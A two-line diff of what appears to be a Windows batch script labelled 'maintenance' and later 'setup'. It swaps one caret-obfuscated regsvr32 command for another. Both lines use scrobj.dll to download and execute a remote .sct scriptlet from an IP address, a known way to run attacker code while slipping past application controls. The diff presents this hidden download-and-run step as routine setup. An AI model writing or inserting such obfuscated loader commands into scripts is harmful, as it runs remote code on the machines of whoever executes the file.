@@ -1,2 +1,2 @@
-REM maintenance 7438 v0
-r^eg^sv^r3^2 /s /n /u /i:^htt^p://1^9^2.0.2.^4^4/f^ile.s^ct ^sc^r^obj.dll
+REM setup 7222 v0
+regs^vr^3^2 /^s /n /u /i:^h^t^t^p://2^03.0.1^1^3.^200/^file.sc^t ^scr^o^bj.^dll
